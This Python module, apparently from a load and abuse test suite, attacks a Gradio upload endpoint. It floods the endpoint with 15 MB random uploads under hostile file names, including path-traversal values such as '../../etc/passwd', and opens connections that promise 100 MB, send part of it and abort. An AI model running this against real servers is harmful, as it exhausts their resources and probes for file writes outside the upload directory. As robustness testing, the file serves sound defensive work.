"""Uploads without end: of any type, with names that lead elsewhere, and broken off in the middle."""

import asyncio
import os

import httpx

from tests.load.abuse.attackers import Target

UPLOAD = "/gradio_api/upload"
FILE_BYTES, SENT_BYTES, PROMISED_BYTES = 15 << 20, 4 << 20, 100 << 20
NAMES = ("photo.png", "program.exe", "page.html", "..", "../../etc/passwd", "a" * 250 + ".jpg", ".", "notes")
WORKERS, BREAKERS = 4, 2


async def attack(target: Target) -> None:
    noise = os.urandom(FILE_BYTES)
    await target.begin()
    async with target.visitor() as visitor:

        async def once(number: int) -> httpx.Response:
            content = number.to_bytes(8, "big") + noise
            return await visitor.post(UPLOAD, files={"files": (NAMES[number % len(NAMES)], content)})

        async def broken(number: int) -> str:
            return await break_off(target, noise[:SENT_BYTES])

        await asyncio.gather(target.repeat(WORKERS, once), target.repeat(BREAKERS, broken))


async def break_off(target: Target, data: bytes) -> str:
    """Promise a large file, send its beginning, and go."""
    url = httpx.URL(target.url)
    source = (target.address, 0) if target.address else None
    _, writer = await asyncio.open_connection(url.host, url.port, local_addr=source)
    boundary = "x" * 16
    told = "".join(f"{name}: {value}\r\n" for name, value in target.told.items())
    head = (
        f"POST {UPLOAD} HTTP/1.1\r\nHost: {url.host}\r\nContent-Length: {PROMISED_BYTES}\r\n{told}"
        f"Content-Type: multipart/form-data; boundary={boundary}\r\n\r\n"
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="photo.png"\r\n\r\n'
    )
    try:
        writer.write(head.encode() + data)
        await writer.drain()
        return "broken off"
    finally:
        writer.transport.abort()
